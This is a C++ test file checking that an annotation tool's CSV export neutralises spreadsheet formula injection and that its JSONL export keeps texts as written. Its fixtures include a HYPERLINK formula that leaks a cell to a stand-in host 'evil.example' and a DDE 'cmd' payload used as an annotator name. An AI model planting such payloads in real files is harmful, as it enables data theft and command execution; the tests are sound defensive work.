// `blindspot export` of a small campaign whose annotator wrote spreadsheet formulas (issue 13,
// finding 10): the CSV neutralises every text cell that a spreadsheet would run (OWASP's CSV
// injection rule), keeps our numbers numbers, and the JSONL keeps the texts as written.

#include "web_fixture.hpp"

#include "blindspot/data/spreadsheet_csv.hpp"
#include "blindspot/store/annotations.hpp"
#include "blindspot/web/assignment.hpp"

#include <gmock/gmock.h>
#include <gtest/gtest.h>
#include <nlohmann/json.hpp>

using namespace blindspot;
using testing::HasSubstr;
using testing::Not;

namespace {

const std::string kHyperlink = R"(=HYPERLINK("http://evil.example/?leak="&A1,"click"))";

// One complete submission by an annotator named like a DDE payload, with formulas in every field.
std::int64_t campaign_with_formulas(test::CampaignStore& c) {
  const auto annotator = store::add_annotator(c.db, c.run, "=cmd|' /C calc'!A0", "token-hash");
  const auto assignment = web::next_assignment(c.db, c.run, annotator, {}, 1'000'000).assignment;
  store::SubmissionRecord s;
  s.assignment_id = assignment->id;
  s.run_id = c.run;
  s.annotator_id = annotator;
  s.uu_id = assignment->uu_id;
  s.abstraction = "\tx";
  s.abstraction_reasoning = "\rx";
  s.extrapolation = "-2";
  s.extrapolation_reasoning = "plain words";
  s.samples_json = nlohmann::json::array({{{"text", kHyperlink}, {"label", "negative"}, {"reasoning", "+1"}},
                                          {{"text", "@SUM(A1:A9)"}, {"label", "positive"}, {"reasoning", ""}}})
                       .dump();
  s.abstraction_seconds = 12.5;
  s.extrapolation_seconds = 2;
  s.generation_seconds = 0.25;
  s.active_seconds = 14.75;
  s.updated_at = "2026-12-06T10:00:00Z";
  s.submitted_at = "2026-12-06T10:00:00Z";
  store::save_submission(c.db, s);
  return annotator;
}

test::CommandResult export_run(test::CampaignStore& c, const std::string& format, const std::filesystem::path& out) {
  return test::run_command("'" + test::blindspot_binary().string() + "' --workspace '" + c.dir.path().string() +
                           "' export --run " + std::to_string(c.run) + " --format " + format + " --out '" +
                           out.string() + "'");
}

}  // namespace

TEST(ExportCsv, CellsASpreadsheetWouldRunGetAQuoteAndStayQuoted) {
  test::CampaignStore c(test::synthetic_uus(2));
  campaign_with_formulas(c);
  const auto file = c.dir / "human.csv";
  const auto result = export_run(c, "csv", file);
  ASSERT_EQ(result.exit_code, 0) << result.errors;
  const std::string csv = test::read_text(file);
  // Each text cell that starts with = + - @ tab or CR is prefixed with ' and quoted, inner quotes doubled.
  EXPECT_THAT(csv, HasSubstr(R"x("'=HYPERLINK(""http://evil.example/?leak=""&A1,""click"")")x"));
  EXPECT_THAT(csv, HasSubstr(R"x("'+1")x"));
  EXPECT_THAT(csv, HasSubstr(R"x("'-2")x"));
  EXPECT_THAT(csv, HasSubstr(R"x("'@SUM(A1:A9)")x"));
  EXPECT_THAT(csv, HasSubstr("\"'\tx\""));
  EXPECT_THAT(csv, HasSubstr("\"'\rx\""));
  EXPECT_THAT(csv, HasSubstr(R"x("'=cmd|' /C calc'!A0")x"));
  // Nothing starts a cell unneutralised.
  for (const char* raw : {",=", ",+", ",-", ",@", ",\t", ",\r", ",\"=", ",\"+", ",\"-", ",\"@", ",\"\t", ",\"\r"}) {
    EXPECT_THAT(csv, Not(HasSubstr(raw))) << "a cell starting with " << testing::PrintToString(std::string(raw));
  }
  // Text that needs nothing is only quoted; the numbers we write stay bare numbers.
  EXPECT_THAT(csv, HasSubstr(R"x("plain words")x"));
  EXPECT_THAT(csv, HasSubstr(",12.500,2.000,0.250,14.750,"));
}

TEST(ExportCsv, JsonlKeepsTheTextsAsWritten) {
  test::CampaignStore c(test::synthetic_uus(2));
  campaign_with_formulas(c);
  const auto file = c.dir / "human.jsonl";
  const auto result = export_run(c, "jsonl", file);
  ASSERT_EQ(result.exit_code, 0) << result.errors;
  const auto line = nlohmann::json::parse(test::read_text(file));
  EXPECT_EQ(line.at("samples").at(0).at("text"), kHyperlink);
  EXPECT_EQ(line.at("samples").at(0).at("reasoning"), "+1");
  EXPECT_EQ(line.at("abstraction"), "\tx");
  EXPECT_EQ(line.at("annotator_name"), "=cmd|' /C calc'!A0");
}

TEST(SpreadsheetCsv, OnlyTheFormulaStartersArePrefixed) {
  EXPECT_EQ(data::spreadsheet_safe_text("=1+1"), "'=1+1");
  EXPECT_EQ(data::spreadsheet_safe_text("+1"), "'+1");
  EXPECT_EQ(data::spreadsheet_safe_text("-2"), "'-2");
  EXPECT_EQ(data::spreadsheet_safe_text("@SUM(A1)"), "'@SUM(A1)");
  EXPECT_EQ(data::spreadsheet_safe_text("\tx"), "'\tx");
  EXPECT_EQ(data::spreadsheet_safe_text("\rx"), "'\rx");
  EXPECT_EQ(data::spreadsheet_safe_text("a = b"), "a = b");
  EXPECT_EQ(data::spreadsheet_safe_text(" =1"), " =1");
  EXPECT_EQ(data::spreadsheet_safe_text(""), "");
  EXPECT_EQ(data::spreadsheet_safe_text("'=1"), "'=1");
}

TEST(SpreadsheetCsv, NumbersStayBareAndAnythingElseIsQuotedText) {
  std::ostringstream out;
  data::write_spreadsheet_csv_row(out, {data::SpreadsheetCell::text("say \"hi\""),
                                        data::SpreadsheetCell::number("-0.5"), data::SpreadsheetCell::number("12"),
                                        data::SpreadsheetCell::number("-1+cmd|x"), data::SpreadsheetCell::text("-2")});
  // A "number" that is not one is written as text: the rule cannot be bypassed by a wrong column kind.
  EXPECT_EQ(out.str(), "\"say \"\"hi\"\"\",-0.5,12,\"'-1+cmd|x\",\"'-2\"\n");
}

TEST(ExportCsv, TheLabelVerdictAndTheModelScoresAnnotatorsSawAreExported) {
  auto uus = test::synthetic_uus(2);
  uus[0].label_issue = true;
  test::CampaignStore c(uus);
  const auto annotator = store::add_annotator(c.db, c.run, "ada", "token-hash");
  const auto assignment = web::next_assignment(c.db, c.run, annotator, {}, 1'000'000).assignment;
  ASSERT_EQ(assignment->uu_id, uus[0].id);
  store::SubmissionRecord s;
  s.assignment_id = assignment->id;
  s.run_id = c.run;
  s.annotator_id = annotator;
  s.uu_id = assignment->uu_id;
  s.abstraction = "the label is wrong";
  s.label_verdict = "wrong";
  s.samples_json = R"([{"text":"a dull film","label":"negative","reasoning":"","model_label":"positive",)"
                   R"("model_probability":0.93},{"text":"b","label":"negative","reasoning":"","model_label":null,)"
                   R"("model_probability":null}])";
  s.submitted_at = "2026-12-06T10:00:00Z";
  store::save_submission(c.db, s);

  const auto jsonl = c.dir / "human.jsonl";
  ASSERT_EQ(export_run(c, "jsonl", jsonl).exit_code, 0);
  const auto line = nlohmann::json::parse(test::read_text(jsonl));
  EXPECT_EQ(line.at("label_issue"), true);
  EXPECT_EQ(line.at("label_verdict"), "wrong");
  EXPECT_EQ(line.at("samples").at(0).at("model_label"), "positive");
  EXPECT_DOUBLE_EQ(line.at("samples").at(0).at("model_probability").get<double>(), 0.93);

  const auto csv = c.dir / "human.csv";
  ASSERT_EQ(export_run(c, "csv", csv).exit_code, 0);
  const std::string rows = test::read_text(csv);
  EXPECT_THAT(rows,
              HasSubstr(",\"submitted_at\",\"label_issue\",\"label_verdict\",\"model_label\",\"model_probability\"\n"));
  EXPECT_THAT(rows, HasSubstr(",\"true\",\"wrong\",\"positive\",0.9300\n"));
  EXPECT_THAT(rows, HasSubstr(",\"true\",\"wrong\",\"\",\"\"\n"));
}
